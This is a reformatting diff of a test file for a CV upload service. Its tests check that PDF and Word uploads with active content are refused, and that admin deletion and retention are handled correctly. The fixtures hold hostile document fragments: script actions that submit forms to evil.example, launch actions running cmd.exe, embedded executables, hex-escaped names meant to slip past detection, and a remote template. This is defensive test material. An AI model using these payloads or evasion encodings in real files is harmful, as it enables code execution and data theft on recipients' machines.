@@ -69,17 +69,45 @@ async function expectAccepted(file: Buffer, filename: string) {
 describe('CVs with active content', () => {
   it('refuses PDFs with scripts, launch actions and attached files, however their names are written', async () => {
     const cases: Array<[string, Buffer]> = [
-      ['a /JavaScript name tree', pdfWith('<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>', '<< /Names [(a) 3 0 R] >>', '<< /S /JavaScript /JS (app.alert(1)) >>')],
-      ['an /OpenAction that runs a script', pdfWith('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (this.submitForm("https://evil.example")) >> >>')],
+      [
+        'a /JavaScript name tree',
+        pdfWith(
+          '<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>',
+          '<< /Names [(a) 3 0 R] >>',
+          '<< /S /JavaScript /JS (app.alert(1)) >>',
+        ),
+      ],
+      [
+        'an /OpenAction that runs a script',
+        pdfWith('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (this.submitForm("https://evil.example")) >> >>'),
+      ],
       ['a page action with /JS only', pdfWith('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Page /AA << /O << /JS 3 0 R >> >> >>')],
       ['a /Launch action', pdfWith('<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) /P (/c calc) >> >>')],
-      ['/EmbeddedFiles', pdfWith('<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >> >>', '<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>')],
-      ['an /EmbeddedFile stream', Buffer.concat([pdfWith('<< /Type /Catalog >>'), Buffer.from('4 0 obj << /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n')])],
+      [
+        '/EmbeddedFiles',
+        pdfWith(
+          '<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >> >>',
+          '<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>',
+        ),
+      ],
+      [
+        'an /EmbeddedFile stream',
+        Buffer.concat([
+          pdfWith('<< /Type /Catalog >>'),
+          Buffer.from('4 0 obj << /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n'),
+        ]),
+      ],
       ['hex-escaped /J#61vaScript and /#4A#53', pdfWith('<< /Type /Catalog /OpenAction << /S /J#61vaScript /#4A#53 (app.alert(1)) >> >>')],
       ['hex-escaped /L#61unch', pdfWith('<< /Type /Catalog /OpenAction << /S /L#61#75nch /F (cmd.exe) >> >>')],
       ['hex-escaped /Embedded#46iles', pdfWith('<< /Type /Catalog /Names << /Embedded#46iles 2 0 R >> >>')],
-      ['a script inside a FlateDecode object stream', pdfWithObjectStream('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
-      ['an escaped launch inside an object stream', pdfWithObjectStream('<< /Type /Catalog /OpenAction << /S /#4C#61#75#6E#63#68 /F (cmd.exe) >> >>')],
+      [
+        'a script inside a FlateDecode object stream',
+        pdfWithObjectStream('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
+      ],
+      [
+        'an escaped launch inside an object stream',
+        pdfWithObjectStream('<< /Type /Catalog /OpenAction << /S /#4C#61#75#6E#63#68 /F (cmd.exe) >> >>'),
+      ],
     ];
     for (const [name, bytes] of cases) {
       expect(detectDocumentKind(bytes), name).toBe('pdf');
@@ -112,7 +140,10 @@ describe('CVs with active content', () => {
       ['a vbaProject content type', docx({}, { types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' })],
       ['an ActiveX control', docx({ 'word/activeX/activeX1.xml': '<ax:ocx/>' })],
       ['an OLE object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
-      ['a remote template', docx({ 'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'https://evil.example/t.dotm', true) })],
+      [
+        'a remote template',
+        docx({ 'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'https://evil.example/t.dotm', true) }),
+      ],
     ];
     for (const [name, bytes] of cases) {
       expect(detectDocumentKind(bytes), name).toBe('docx');
@@ -211,7 +242,10 @@ describe('DELETE /api/v1/admin/Candidates/{id}', () => {
     const { id, cv } = await storedCandidate();
     const anonymous = await server.api().delete(`${ADMIN_BASE}/${id}`);
     expect(anonymous.status).toBe(401);
-    const visitor = await server.api().delete(`${ADMIN_BASE}/${id}`).set('Authorization', `Bearer ${await nonAdministratorToken(server)}`);
+    const visitor = await server
+      .api()
+      .delete(`${ADMIN_BASE}/${id}`)
+      .set('Authorization', `Bearer ${await nonAdministratorToken(server)}`);
     expect(visitor.status).toBe(403);
     expect(await server.strapi.db.query(CANDIDATE).findOne({ where: { id } })).not.toBeNull();
     expect(await gone(cv)).toBe(false);
@@ -224,7 +258,10 @@ describe('CV_RETENTION_DAYS', () => {
   async function backdate(id: number, days: number) {
     const meta = server.strapi.db.metadata.get(CANDIDATE);
     const column = (meta.attributes.createdAt as { columnName?: string }).columnName ?? 'created_at';
-    await server.strapi.db.connection(meta.tableName).where({ id }).update({ [column]: new Date(Date.now() - days * DAY) });
+    await server.strapi.db
+      .connection(meta.tableName)
+      .where({ id })
+      .update({ [column]: new Date(Date.now() - days * DAY) });
   }
 
   it('erases the candidates and CVs older than the setting, keeps the recent ones, and logs counts only', async () => {
@@ -238,7 +275,9 @@ describe('CV_RETENTION_DAYS', () => {
 
     const lines: string[] = [];
     const capture = (...args: unknown[]) => void lines.push(args.map(String).join(' '));
-    const spies = (['info', 'warn', 'error', 'debug'] as const).map((level) => vi.spyOn(server.strapi.log, level).mockImplementation(capture as never));
+    const spies = (['info', 'warn', 'error', 'debug'] as const).map((level) =>
+      vi.spyOn(server.strapi.log, level).mockImplementation(capture as never),
+    );
     let erased: number;
     try {
       erased = await runCvRetention(server.strapi);
@@ -259,7 +298,8 @@ describe('CV_RETENTION_DAYS', () => {
 
     expect(lines.join('\n')).toMatch(/erased 2 candidate/);
     for (const { row } of [old, oldDocx]) {
-      for (const personal of [row.name, row.surname, row.email, row.number, row.resumeFile]) expect(lines.join('\n')).not.toContain(personal);
+      for (const personal of [row.name, row.surname, row.email, row.number, row.resumeFile])
+        expect(lines.join('\n')).not.toContain(personal);
     }
     // A second run finds nothing more.
     expect(await runCvRetention(server.strapi)).toBe(0);
